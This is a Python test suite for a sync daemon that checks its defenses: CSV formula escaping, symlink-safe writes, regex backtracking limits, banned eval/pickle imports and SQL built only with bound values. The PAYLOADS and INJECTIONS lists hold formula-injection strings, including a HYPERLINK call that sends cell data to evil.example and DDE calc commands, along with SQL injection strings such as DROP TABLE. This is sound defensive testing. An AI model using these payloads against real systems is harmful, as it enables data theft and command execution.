"""What people typed, or a hostile system answered, is data: no spreadsheet, database or regular expression obeys it."""

from __future__ import annotations

import ast
import csv
import io
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from mappers import kommunikation
from mappers.spec import Side
from syncd.cli.spreadsheet import Sheet, sheet
from syncd.csv_text import defused
from syncd.ledger import journal, pairs
from tests.doors.conftest import NOW, OURS, Doors

ROOT = Path(__file__).parent.parent.parent
PARTS = [*(ROOT / "syncd").rglob("*.py"), *(ROOT / "services").rglob("*.py"), *(ROOT / "mappers").rglob("*.py")]
DAEMON = [ROOT / "config.py", *(path for path in PARTS if "sandbox" not in path.parts)]
STARTING = re.compile(r"\bsubprocess\b|create_subprocess|os\.(system|popen|exec|spawn)")

# --- spreadsheets ---------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Müller")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "Müller;=1+1",
    'Müller;"=1+1"',
    "Müller\n=1+1",
    "Müller|@SUM(1)",
    "Müller\t-1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_is_a_formula_whatever_separates_cells_for_the_spreadsheet(payload: str, separator: str) -> None:
    text = io.StringIO(newline="")
    Sheet(csv.writer(text)).write(("record", "name"), [("a", payload), (payload, "b")])
    for line in csv.reader(io.StringIO(text.getvalue(), newline=""), delimiter=separator):
        for cell in line:
            assert not re.match(r"[\s\"\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), cell


@pytest.mark.parametrize("harmless", ["Müller-Lüdenscheidt", "GmbH & Co. KG", "a=b", "x@example.org", "1.3.80", "A; B"])
def test_ordinary_text_arrives_as_it_is(harmless: str) -> None:
    assert defused(harmless) == harmless


def test_a_table_is_never_written_through_a_link_or_over_a_file(tmp_path: Path) -> None:
    target = tmp_path / "dear"
    target.write_text("to somebody")
    (tmp_path / "link.csv").symlink_to(target)
    for name in ("link.csv", "dear"):
        with pytest.raises(Exception, match="is there already"), sheet(tmp_path / name):
            pass
    (tmp_path / "dangling.csv").symlink_to(tmp_path / "nowhere")
    with pytest.raises(Exception, match="is there already"), sheet(tmp_path / "dangling.csv"):
        pass
    assert target.read_text() == "to somebody"


# --- regular expressions --------------------------------------------------------------------------

HOSTILE = """
import sys
from mappers import kommunikation, normal
from mappers.spec import Unmappable
from services import answer, espocrm_answers
from syncd import logs

n = 200_000
parts = [" ", "x", "0", "+", "#", "(", "@", "a@", "[", "[ESPOCRM:", "[ESPOCRM-SLOT:", "=", "/", ";ext=", "ext", "1 ",
         "+49 ", " #1", "\\t", "?", "Record ", "\\\\", "'", "-", "2020-01-01"]
texts = [begin + part * (n // len(part)) + end for begin in ("", "+", "0") for part in parts for end in ("", "z", "1")]
for text in texts:
    for read in (kommunikation.value, kommunikation.form, kommunikation.split, normal.text, normal.day,
                 normal.phone_or_mail, answer.http_date, logs._sentence, logs._word):
        try:
            read(text)
        except Unmappable:
            pass
    for pattern in (espocrm_answers._HARMLESS, espocrm_answers._INVALID, espocrm_answers._NO_RECORD):
        pattern.fullmatch(text)
print("read")
"""


def test_no_text_keeps_a_reader_busy() -> None:
    """200,000 characters a hundred times: what backtracks would need hours. It has two minutes."""
    done = subprocess.run(
        [sys.executable, "-c", HOSTILE], cwd=ROOT, capture_output=True, text=True, timeout=110, check=False
    )
    assert done.stdout == "read\n", done.stderr[-500:]


def test_what_is_too_long_for_a_number_stays_text() -> None:
    assert kommunikation.value("+49" + "1" * 300) == "+49" + "1" * 300
    assert kommunikation.value("+" + " " * 9 + "49 511 12345-0") == "+49511123450"


# --- the program itself ---------------------------------------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "breakpoint"}
FORBIDDEN_MODULES = {"pickle", "marshal", "shelve", "dill", "yaml", "xml", "lxml", "telnetlib", "ftplib", "tempfile"}


def nodes(path: Path) -> list[ast.AST]:
    return list(ast.walk(ast.parse(path.read_text("utf-8"))))


def test_the_daemon_loads_nothing_that_runs_what_it_reads() -> None:
    found = []
    for path in DAEMON:
        for node in nodes(path):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [one.name for one in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in FORBIDDEN_CALLS:
                found.append((path.name, node.func.id))
            found += [(path.name, name) for name in names if name.partition(".")[0] in FORBIDDEN_MODULES]
    assert found == []


def test_other_programs_are_started_in_one_place_without_a_shell_and_without_our_environment() -> None:
    starting = [path for path in DAEMON if STARTING.search(path.read_text("utf-8"))]
    assert [path.name for path in starting] == ["redis_server.py"]
    calls = [
        node
        for node in nodes(starting[0])
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in ("run", "Popen")
    ]
    assert len(calls) == 2
    for call in calls:
        given = {one.arg: one.value for one in call.keywords}
        assert "shell" not in given
        assert isinstance(given["env"], ast.Dict)


def test_sql_is_never_put_together_from_text() -> None:
    """Only fixed statements are written as text; everything else is built by SQLAlchemy with bound values."""
    written = {"text", "execute", "exec_driver_sql", "executescript", "literal_column"}
    for path in (ROOT / "syncd/ledger").rglob("*.py"):
        for node in nodes(path):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name not in written:
                continue
            given = node.args[0]
            made = isinstance(given, ast.JoinedStr) or any(
                isinstance(part, ast.BinOp) and _is_text(part.left) for part in ast.walk(given)
            )
            # The one that is made: `PRAGMA …`, from a list that stands above it.
            assert not made or (path.name, name) == ("engines.py", "execute"), f"{path.name}:{node.lineno}"


def _is_text(node: ast.AST) -> bool:
    return isinstance(node, ast.JoinedStr) or (isinstance(node, ast.Constant) and isinstance(node.value, str))


INJECTIONS = ["' OR '1'='1", "x'; DROP TABLE pairs; --", "%", "_" * 32, "a%", "\\", "1 UNION SELECT * FROM secrets"]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_a_name_with_sql_or_wildcards_in_it_finds_nothing(doors: Doors, text: str) -> None:
    key = "beteiligte/65f0a1b2c3d4e5f67"
    await doors.ledger.write(pairs.admit, [key], "linked")
    await doors.ledger.write(
        journal.record, key, journal.Author("a" * 32), "sync", NOW, Side.ADVOWARE, {"name": ("A", "B")}
    )
    async with doors.client() as client:
        for path in ("conflicts", "records", "runs"):
            answer = await client.get(f"/api/v1/{path}/{quote(text, safe='')}", headers=OURS)
            assert answer.status_code in (400, 404, 409), (path, answer.text)
        undone = await client.post("/api/v1/undo", json={"run": text, "dry_run": True}, headers=OURS)
        assert undone.status_code in (400, 404, 409), undone.text
    assert await doors.ledger.read(pairs.get, key) is not None
